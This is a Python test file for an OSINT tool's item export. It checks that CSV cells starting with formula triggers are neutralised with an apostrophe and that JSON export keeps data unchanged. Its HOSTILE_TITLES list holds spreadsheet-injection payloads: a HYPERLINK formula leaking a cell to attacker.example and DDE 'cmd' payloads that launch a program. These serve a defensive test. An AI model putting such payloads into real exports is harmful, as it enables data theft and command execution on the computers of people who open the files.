"""Tests of item exports: CSV cells a spreadsheet would run are neutralised, JSON stays as collected."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from osint_desktop.app.export import CSV_LINE_END, ItemCsvWriter, export_items, formula_safe
from osint_desktop.core.db.queries import ITEM_FIELDS, ItemInfo

# Each starts with one of OWASP's formula triggers: = + - @ tab carriage return.
HOSTILE_TITLES = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def item(number: int, title: str, **extra: object) -> ItemInfo:
    values: dict[str, object] = {
        "id": number,
        "task_id": 7,
        "source": "news",
        "url": f"https://news.example.org/{number}",
        "title": title,
        "summary": "plain summary",
        "author": None,
        "published_at": None,
        "collected_at": datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        "origin": "https://news.example.org/rss",
    }
    values.update(extra)
    return ItemInfo(**values)  # type: ignore[arg-type]


def read_csv(path: Path) -> list[dict[str, str]]:
    # newline="": a carriage return inside a cell must come back as one.
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_export_neutralises_every_formula_trigger(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    items = [item(n, title) for n, title in enumerate(HOSTILE_TITLES, start=1)]
    assert export_items(items, path, "csv") == len(HOSTILE_TITLES)
    rows = read_csv(path)
    assert [row["title"] for row in rows] == ["'" + title for title in HOSTILE_TITLES]
    for row in rows:
        assert row["title"].startswith("'")
        # Numbers stay numbers; harmless text stays as it is.
        assert row["id"].isdigit() and row["task_id"] == "7"
        assert row["summary"] == "plain summary"
    assert list(rows[0]) == list(ITEM_FIELDS)


def test_every_text_field_is_neutralised_not_only_titles(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    hostile = item(1, "fine", summary="-1 dead", author="@handle", url="=cmd", origin="+x")
    export_items([hostile], path, "csv")
    [row] = read_csv(path)
    cells = (row["summary"], row["author"], row["url"], row["origin"])
    assert cells == ("'-1 dead", "'@handle", "'=cmd", "'+x")


@pytest.mark.parametrize(("value", "expected"), [
    (-5, -5), (0, 0), (None, None), ("", ""), ("a=b", "a=b"), (" =1", " =1"), ("-", "'-"),
])
def test_only_text_cells_that_start_with_a_trigger_change(value: object, expected: object) -> None:
    assert formula_safe(value) == expected


def test_one_writer_and_one_line_ending(tmp_path: Path) -> None:
    buffer = io.StringIO()
    writer = ItemCsvWriter(buffer)
    writer.write(item(1, "a title"))
    path = tmp_path / "items.csv"
    export_items([item(1, "a title")], path, "csv")
    assert path.read_bytes().decode("utf-8") == buffer.getvalue()
    assert buffer.getvalue().count(CSV_LINE_END) == 2
    assert buffer.getvalue().endswith(",2026-01-02T03:04:05Z,https://news.example.org/rss\r\n")


def test_a_carriage_return_inside_a_cell_does_not_split_the_row(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    export_items([item(1, "one\rtwo\nthree"), item(2, "second")], path, "csv")
    assert [row["title"] for row in read_csv(path)] == ["one\rtwo\nthree", "second"]


def test_json_export_keeps_the_data_as_collected(tmp_path: Path) -> None:
    path = tmp_path / "items.json"
    items = [item(n, title) for n, title in enumerate(HOSTILE_TITLES, start=1)]
    export_items(items, path, "json")
    data = json.loads(path.read_text(encoding="utf-8"))
    assert [entry["title"] for entry in data] == HOSTILE_TITLES
    assert [entry["id"] for entry in data] == list(range(1, len(HOSTILE_TITLES) + 1))
